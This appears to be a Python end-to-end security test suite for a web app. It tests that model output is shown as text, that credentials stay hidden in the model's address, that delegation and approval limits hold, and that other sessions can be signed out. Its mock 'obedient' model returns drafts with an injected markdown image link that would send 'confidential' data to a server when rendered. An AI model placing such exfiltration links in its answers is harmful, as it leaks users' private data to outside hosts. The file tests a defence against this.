"""Issue 14 in a real browser, on an app of its own (these flows change the demo's state):
a model answer that tries to exfiltrate through an image, credentials in the model's address, a delegate
proposing instead of setting an SLA class, an approver's edit waiting for someone else, and
"Sign out my other sessions"."""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect
from sqlalchemy import create_engine, text

from tests.conftest import fresh_database_url
from tests.e2e.conftest import screenshot, seeded_demo, served_app, sign_in, wait_idle
from tests.e2e.test_inbox_daily import click_row, grid_rows, nav, open_panel, rows_when, search
from tests.integration.test_llm_mock import answer_chat

pytestmark = pytest.mark.e2e

MAYA = ("maya@lumengrid.example", "executive-demo-1")
SAM = ("sam@lumengrid.example", "delegate-demo-1")
RILEY = ("riley@lumengrid.example", "reviewer-demo-1")


class ObedientModel(BaseHTTPRequestHandler):
    """An OpenAI-compatible server whose drafts obey an injected instruction: an image pointing back at this very
    server, so a browser that renders it shows up in `fetched`."""

    protocol_version = "HTTP/1.1"
    fetched: list[str] = []

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:
        ObedientModel.fetched.append(self.path)
        self.send_response(404)
        self.send_header("content-length", "0")
        self.end_headers()

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        port = self.server.server_address[1]
        exfil = f"![x](http://127.0.0.1:{port}/exfil.png?d=confidential-Q3-figures)"
        content = json.dumps(
            {"drafts": [{"angle": "site visit", "text": f"Steel frames arrived. {exfil} #{i}"} for i in range(3)]}
        )
        answer_chat(self, body, content, size=7)


@pytest.fixture(scope="module")
def model_server():
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), ObedientModel)
    threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    yield httpd
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(scope="module")
def own_app(tmp_path_factory, model_server):
    port = model_server.server_address[1]
    env = {
        "OPENAI_BASE_URL": f"http://llmuser:S3CRET@127.0.0.1:{port}/v1",
        "OPENAI_API_KEY": "sk-test-not-a-real-key",
        "OPENAI_MODEL": "obedient-local",
        "LLM_MAX_RETRIES": "0",
    }
    for db_url in fresh_database_url(tmp_path_factory.mktemp("e2e-security")):
        seeded_demo(db_url).engine.dispose()
        with served_app(db_url, env) as url:
            yield url, db_url


def _scalar(db_url: str, sql: str, **params):
    engine = create_engine(db_url)
    try:
        with engine.connect() as conn:
            return conn.execute(text(sql), params).scalar()
    finally:
        engine.dispose()


def _open_mention(page, url: str, who: tuple[str, str], handle: str) -> tuple:
    """Sign in as `who`, find the mention by `handle` in the Inbox and open it: its panel and id."""
    sign_in(page, url, *who)
    nav(page, "Inbox")
    grid_rows(page)
    search(page, handle)
    rows_when(page, lambda rows: rows and all(handle in r[1] for r in rows))
    click_row(page, 0)
    panel = open_panel(page)
    return panel, int(re.search(r"Mention #(\d+)", panel.inner_text()).group(1))


def _sign_out(page) -> None:
    page.get_by_role("button", name="Sign out").click()
    page.get_by_role("heading", name="Sign in").wait_for()


def test_model_output_is_text_and_the_model_address_shows_no_credentials(page, own_app):
    url, _db = own_app
    ObedientModel.fetched.clear()
    sign_in(page, url, *MAYA)
    nav(page, "Compose")
    expect(page.get_by_text(re.compile(r"Drafting with"))).to_be_visible()
    page.get_by_role("textbox", name="Idea, notes or a link").fill("Steel frames arrived early at the Texas site")
    page.keyboard.press("Tab")  # leaving the box applies it at once (typing applies it after a pause)
    wait_idle(page)
    draft = page.get_by_role("button", name="Draft three versions")
    expect(draft).to_be_enabled()
    draft.click()
    page.get_by_role("button", name="Use this draft").first.wait_for(timeout=60_000)
    wait_idle(page)
    screenshot(page, "security-compose-injected-model")
    html = page.content()
    assert "S3CRET" not in html and "llmuser" not in html  # the address is shown without its credentials
    assert page.locator("img[src*='exfil']").count() == 0
    assert "exfil.png" in page.inner_text("body")  # the model's text is there, as text
    page.wait_for_timeout(1000)
    assert not [p for p in ObedientModel.fetched if "exfil" in p], ObedientModel.fetched  # nothing was fetched


def test_a_delegate_proposes_a_class_and_a_reviewer_decides(browser, own_app):
    url, db_url = own_app
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    page.set_default_timeout(30_000)
    try:
        panel, mention_id = _open_mention(page, url, SAM, "cleantechcap")
        # a delegate has no control that applies a class, only one that proposes
        expect(panel.get_by_text("Propose another SLA class")).to_be_visible()
        wait_idle(page)
        chooser = panel.get_by_role("combobox", name="Propose another SLA class")
        chooser.click()
        page.keyboard.type("default")  # the list filters as one types; retried below if the first click was lost
        option = page.get_by_role("option", name=re.compile("^default", re.I))
        if not option.is_visible():
            chooser.click()
        option.first.click()
        wait_idle(page)
        expect(open_panel(page).get_by_role("combobox", name="Propose another SLA class")).to_have_value(
            re.compile("default", re.I)
        )
        open_panel(page).get_by_role("button", name="Propose", exact=True).click()
        wait_idle(page)
        screenshot(page, "security-delegate-proposes-class")
        assert _scalar(db_url, "SELECT sla_class FROM mentions WHERE id = :i", i=mention_id) == "investor"
        assert _scalar(db_url, "SELECT proposed_sla_class FROM mentions WHERE id = :i", i=mention_id) == "default"
        _sign_out(page)

        sign_in(page, url, *RILEY)
        nav(page, "Inbox")
        page.get_by_role("tab", name="Waiting for your approval").click()
        wait_idle(page)
        expect(page.get_by_role("heading", name=re.compile(r"Class changes proposed \(1\)"))).to_be_visible()
        screenshot(page, "security-reviewer-sees-proposal")
        page.get_by_role("button", name="Decline", exact=True).first.click()
        wait_idle(page)
        assert _scalar(db_url, "SELECT sla_class FROM mentions WHERE id = :i", i=mention_id) == "investor"
        assert _scalar(db_url, "SELECT proposed_sla_class FROM mentions WHERE id = :i", i=mention_id) is None
    finally:
        context.close()


def test_my_other_sessions_end_when_i_say_so(browser, own_app):
    url, _db = own_app
    first = browser.new_context(viewport={"width": 1280, "height": 900})
    second = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    try:
        laptop, phone = first.new_page(), second.new_page()
        for p in (laptop, phone):
            p.set_default_timeout(30_000)
            sign_in(p, url, *RILEY)
        laptop.goto(f"{url}/account")
        laptop.get_by_role("heading", name="My account").first.wait_for()
        wait_idle(laptop)
        laptop.get_by_role("button", name="Sign out my other sessions").click()
        wait_idle(laptop)
        expect(laptop.get_by_text(re.compile(r"other sessions? signed out"))).to_be_visible()
        screenshot(laptop, "security-sign-out-other-sessions")
        phone.reload()
        phone.get_by_role("heading", name="Sign in").wait_for()  # the other browser is signed out
        laptop.reload()
        laptop.get_by_role("heading", name="My account").first.wait_for()  # this one stays
    finally:
        first.close()
        second.close()


def _approval_box(page, reply_id: int):
    return page.locator(f".st-key-approve_text_{reply_id}").get_by_role("textbox")


def _approval_button(page, reply_id: int):
    return page.locator(f".st-key-approve_{reply_id}").get_by_role("button")


def test_an_approvers_edit_waits_for_someone_else_and_names_both_authors(browser, own_app):
    url, db_url = own_app
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    page.set_default_timeout(30_000)
    try:
        # Sam answers an investor: held for approval by the policy
        panel, mention_id = _open_mention(page, url, SAM, "fund_alpha")
        panel.get_by_role("button", name="Claim").click()
        wait_idle(page)
        reply = open_panel(page).get_by_role("textbox", name="Reply", exact=True)
        reply.fill("Thanks, we will share the figures at the results call.")
        reply.press("Control+Enter")
        wait_idle(page)
        open_panel(page).get_by_role("button", name="Send or submit reply").click()
        wait_idle(page)
        expect(open_panel(page).get_by_text(re.compile(r"Reply \d+ waits for approval"))).to_be_visible()
        reply_id = _scalar(db_url, "SELECT max(id) FROM replies WHERE mention_id = :m", m=mention_id)
        _sign_out(page)

        # Riley rewrites it: nothing goes out, it is version 2 by Riley, waiting for someone else
        sign_in(page, url, *RILEY)
        nav(page, "Inbox")
        page.get_by_role("tab", name="Waiting for your approval").click()
        wait_idle(page)
        box = _approval_box(page, reply_id)
        box.fill("Thanks Alpha Partners, the Texas site is on track; details at the results call.")
        box.press("Control+Enter")
        wait_idle(page)
        expect(_approval_button(page, reply_id)).to_have_text("Save my edit for someone else's approval")
        _approval_button(page, reply_id).click()
        wait_idle(page)
        expect(page.get_by_text(f"Your edit of reply {reply_id} is version 2")).to_be_visible()
        screenshot(page, "security-approver-edit-waits")
        assert _scalar(db_url, "SELECT state FROM replies WHERE id = :r", r=reply_id) == "pending_approval"
        assert _scalar(db_url, "SELECT count(*) FROM reply_versions WHERE reply_id = :r", r=reply_id) == 2
        expect(_approval_box(page, reply_id)).to_have_count(0)  # not in the editor's own queue
        _sign_out(page)

        # Maya approves Riley's version; the record names both
        sign_in(page, url, *MAYA)
        nav(page, "Inbox")
        page.get_by_role("tab", name="Waiting for your approval").click()
        wait_idle(page)
        expect(page.get_by_text(re.compile(r"Sam Patel, edited by Riley Chen replies as"))).to_be_visible()
        expect(_approval_box(page, reply_id)).to_have_value(re.compile("^Thanks Alpha Partners"))
        expect(_approval_button(page, reply_id)).to_have_text("Approve and send")
        _approval_button(page, reply_id).click()
        wait_idle(page)
        page.get_by_text(re.compile(rf"Reply {reply_id} is sent \(dry run\)")).wait_for()
        sent = _scalar(db_url, "SELECT text FROM replies WHERE id = :r", r=reply_id)
        assert sent.startswith("Thanks Alpha Partners") and sent.count("^SP") == 1, sent
        page.get_by_role("tab", name="Said on your behalf").click()
        wait_idle(page)
        said = page.locator('[data-testid="stDataFrame"]').last
        said.locator("[role=gridcell]").first.wait_for(state="attached")
        expect(said).to_contain_text("Riley Chen")
        screenshot(page, "security-said-on-your-behalf-both-authors")
    finally:
        context.close()
